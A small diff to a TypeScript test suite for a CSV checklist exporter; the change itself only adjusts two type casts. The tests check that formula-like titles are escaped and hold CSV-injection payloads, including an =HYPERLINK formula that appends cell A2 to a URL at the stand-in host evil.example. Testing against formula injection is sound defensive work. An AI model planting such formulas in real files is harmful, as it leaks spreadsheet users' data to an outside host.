@@ -203,7 +203,7 @@ describe('the CSV checklist', () => {
     ]);
     expect(texts.map((t) => csvText(csvField(t).replace(/^"|"$/g, '')))).toEqual(texts);
     // Rubric text is written the same way: a title that starts like a formula stays text.
-    const hostile = structuredClone(current) as { milestones: { title: string }[] };
+    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
     (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/","Click")';
     expect(checklistCsv(hostile as unknown as Rubric)).toContain('"\'=HYPERLINK(""http://evil.example/"",""Click"")"');
   });
@@ -213,7 +213,7 @@ describe('the CSV checklist', () => {
   requireLibreOfficeInCi();
 
   it.skipIf(!soffice)('opens in LibreOffice Calc as text, never a formula, with every cell as written', () => {
-    const hostile = structuredClone(current) as { milestones: { title: string }[] };
+    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
     (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
     writeFileSync(join(work, 'hostile.csv'), checklistCsv(hostile as unknown as Rubric));
     const opened = openInCalc(join(work, 'hostile.csv'), work);
